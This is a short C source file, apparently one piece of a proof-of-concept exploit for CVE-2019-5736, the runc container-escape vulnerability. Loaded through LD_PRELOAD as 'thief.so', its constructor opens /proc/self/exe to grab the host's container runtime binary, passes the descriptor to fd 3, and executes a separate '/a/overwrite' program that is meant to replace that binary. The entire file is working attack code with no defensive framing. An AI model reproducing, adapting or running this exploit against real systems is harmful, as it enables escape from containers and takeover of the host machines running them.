/*
 * thief.so - with LD_PRELOAD, the first code in a runtime that an image has
 * made execute itself: CVE-2019-5736. It opens the file that is executed, the
 * runtime of the host, and leaves the rest to a program that waits until
 * nobody executes it any more.
 */
#include "attack.h"

#define FOUND_FD 3

__attribute__((constructor)) static void steal(void)
{
    char *const attack[] = {"overwrite", NULL};
    int fd = open("/proc/self/exe", O_RDONLY);
    if (fd >= 0 && fd != FOUND_FD)
        dup2(fd, FOUND_FD);
    execve("/a/overwrite", attack, environ); /* static: no LD_PRELOAD */
    _exit(111);
}
